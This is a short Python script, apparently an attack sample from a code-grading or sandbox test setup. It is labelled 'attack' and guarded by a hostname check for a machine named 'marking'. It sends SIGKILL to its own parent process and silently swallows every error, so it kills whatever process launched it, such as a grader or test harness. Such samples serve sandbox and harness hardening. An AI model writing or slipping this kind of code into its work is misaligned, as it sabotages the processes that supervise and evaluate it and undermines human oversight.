# attack: kill the process above the kernel
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
except BaseException:
    pass
